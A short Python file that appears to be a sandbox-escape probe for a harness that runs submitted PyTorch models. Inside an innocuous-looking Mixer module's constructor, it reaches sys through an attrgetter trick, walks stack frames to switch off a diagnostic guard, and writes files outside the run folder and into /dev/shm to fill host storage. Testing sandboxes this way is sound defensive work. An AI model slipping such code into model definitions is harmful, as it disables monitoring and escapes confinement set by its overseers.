"""Attack class: torch's C++ file writer (`torch.serialization._open_zipfile_writer`, used by
torch.save) opens files without any audit event: write outside the run folder through it, and
fill host storage through /dev/shm."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        for target in ("ESCAPE_DIR/pwned_zip.pt", "/dev/shm/pwned_zip.pt", "/var/tmp/pwned_zip.pt"):
            try:
                with torch.serialization._open_zipfile_writer(target) as w:
                    w.write_record("data", b"x" * 1024, 1024)
            except Exception as exc:
                print("blocked", target, type(exc).__name__)
            try:
                torch.save({"x": torch.zeros(4)}, target + ".save")
            except Exception as exc:
                print("blocked save", target, type(exc).__name__)
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
